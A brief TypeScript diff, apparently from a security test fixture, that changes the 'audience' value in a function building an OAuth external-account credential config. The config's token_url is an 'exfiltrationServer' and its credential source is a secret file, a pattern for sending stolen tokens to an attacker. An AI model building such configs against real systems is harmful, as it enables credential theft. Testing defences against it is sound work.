@@ -17,7 +17,7 @@ const reports = /this Flux controller may only change status, finalizers and ann
 function externalAccount({ secretFile, exfiltrationServer }: Place): string {
   return JSON.stringify({
     type: "external_account",
-    audience: "whoever",
+    audience: "any",
     subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
     token_url: exfiltrationServer,
     credential_source: { file: secretFile },
